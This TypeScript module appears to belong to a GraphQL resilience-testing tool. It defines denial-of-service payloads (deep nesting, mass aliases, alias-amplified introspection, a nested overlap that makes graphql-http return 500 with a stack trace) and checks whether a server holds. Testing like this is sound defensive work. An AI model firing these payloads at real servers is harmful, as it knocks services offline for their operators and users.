import type { Attack, AttackContext } from './types';
import { cpuForOperations, judgedByCpu, linear } from './validationCost';
import { ANSWER_MS, exchange, hasResponseHead, jsonPost, statusOf } from './wire';

/** Sends a query whole; held when the server answers (or closes) within ANSWER_MS. */
const answeredWithin = async ({ target, from }: AttackContext, query: string) => {
  const request = jsonPost(target.graphqlPath, { query }, target.headers);
  const answer = await exchange({ port: target.port, from, request, until: hasResponseHead });
  if (answer.timedOut)
    return { held: false, detail: `no answer within ${ANSWER_MS / 1000} s to ${(query.length / 1024).toFixed(0)} kB` };
  return { held: true, detail: answer.head ? `answered ${statusOf(answer.head)}` : 'closed' };
};

const aliased = (count: number, selection: string) =>
  Array.from({ length: count }, (_, index) => `a${index}: ${selection}`).join(' ');

/**
 * Introspection multiplied by aliases, on any schema (730 bytes, 221 tokens): four aliases of
 * `__schema { types }`, each type's `fields` under four aliases, and below each field's type (and
 * the two types it wraps) four more aliases of `fields`. Two levels of introspection lists, so
 * graphql-js's MaxIntrospectionDepthRule passes it, and every field is valid; the result grows
 * with the cube of the aliases (on a one-field schema, 456 kB for 64 ms of graphql 16.15.0's CPU;
 * fifteen aliases, 24 MB and seconds), all of it built before any check of the response's size.
 */
export const INTROSPECTION_BY_ALIASES = (() => {
  const typeFields = (below: string) =>
    aliased(4, `fields { type { ${below} ofType { ${below} ofType { ${below} } } } }`);
  const fragments = [
    `fragment F0 on __Type { ${typeFields('...F1')} }`,
    `fragment F1 on __Type { ${typeFields('...F2')} }`,
    'fragment F2 on __Type { name }',
  ];
  return `{ ${aliased(4, '__schema { types { ...F0 } }')} } ${fragments.join(' ')}`;
})();

/**
 * One selection nested 1,000 levels deep, twice under one response key (22 kB): each copy is within reach of
 * graphql-js's recursive parser, but OverlappingFieldsCanBeMergedRule compares the two copies recursively, a
 * few frames a level, and overflows the stack from about 770 levels. graphql-http calls `validate` outside any
 * try, so the RangeError reaches its Express adapter, which answers 500 and prints the stack trace: one per
 * request, as many as the client sends. `__type` and `ofType` are in every schema.
 */
export const DEEP_OVERLAP = (() => {
  const deep = `__type(name: "x") { ${'ofType { '.repeat(1000)}name${' }'.repeat(1000)} }`;
  return `{ a: ${deep} a: ${deep} }`;
})();

/**
 * Introspection's longest built-in list under aliases, through fragments (1,578 bytes, 444 tokens):
 * `__DirectiveLocation` has 19 values in every schema. Counted as ten entries a list, the result is 80,110
 * fields, under a limit of 100,000; built, it is 152,000, 130 to 150 ms of graphql's CPU on the caching
 * guide's schema; on a schema of 300 types, `__schema { types }` in the same shape took 1.8 s.
 */
export const INTROSPECTION_LONG_LISTS = (() => {
  const aliases = (count: number, prefix: string, selection: string) =>
    Array.from({ length: count }, (_, index) => `${prefix}${index}: ${selection}`).join(' ');
  return [
    `{ ${aliases(10, 'k', '__type(name: "__DirectiveLocation") { ...E }')} }`,
    `fragment E on __Type { ${aliases(10, 'e', 'enumValues { ...M }')} }`,
    `fragment M on __EnumValue { ${aliases(80, 'm', 'name')} }`,
  ].join(' ');
})();

/** Sends a query whole; held when the server answers it below 500 (a 500 is an exception nothing caught). */
const answeredBelow500 = async ({ target, from }: AttackContext, query: string) => {
  const request = jsonPost(target.graphqlPath, { query }, target.headers);
  const answer = await exchange({ port: target.port, from, request, until: hasResponseHead });
  if (answer.timedOut) return { held: false, detail: `no answer within ${ANSWER_MS / 1000} s` };
  const status = answer.head ? statusOf(answer.head) : null;
  if (status !== null && status >= 500) return { held: false, detail: `answered ${status}` };
  return { held: true, detail: status ? `answered ${status}` : 'closed' };
};

/** Query shapes that cost a parser or validator more than their size: deep nesting, many tokens. */
export const queryCostAttacks: Attack[] = [
  {
    // 20,000 levels overflow graphql-js's recursive parser: a RangeError, not a GraphQLError.
    name: 'query-deep-nesting',
    family: 'query-cost',
    run: (context) => answeredWithin(context, `${'{ a '.repeat(20_000)}${'}'.repeat(20_000)}`),
  },
  {
    name: 'query-many-aliases',
    family: 'query-cost',
    run: (context) =>
      answeredWithin(context, `{ ${Array.from({ length: 5000 }, (_, index) => `a${index}: __typename`).join(' ')} }`),
  },
  {
    // Judged by the server's CPU, as validation's cost is: a server that builds the result spends
    // 10 times the bound on each request, one that estimates its size first refuses it.
    name: 'query-introspection-aliases',
    family: 'query-cost',
    run: (context) => judgedByCpu(context, INTROSPECTION_BY_ALIASES, linear(221)),
  },
  {
    name: 'query-deep-overlap',
    family: 'query-cost',
    run: (context) => answeredBelow500(context, DEEP_OVERLAP),
  },
  {
    // Judged by CPU: a server that sizes introspection's lists by its schema refuses it before it runs.
    name: 'query-introspection-long-lists',
    family: 'query-cost',
    run: (context) => judgedByCpu(context, INTROSPECTION_LONG_LISTS, linear(444)),
  },
  {
    // query-introspection-aliases over WebSocket, where a server's HTTP side (a 404, say) does not see it.
    name: 'query-introspection-aliases-ws',
    family: 'query-cost',
    run: (context) => judgedByCpu(context, INTROSPECTION_BY_ALIASES, linear(221), cpuForOperations),
  },
];
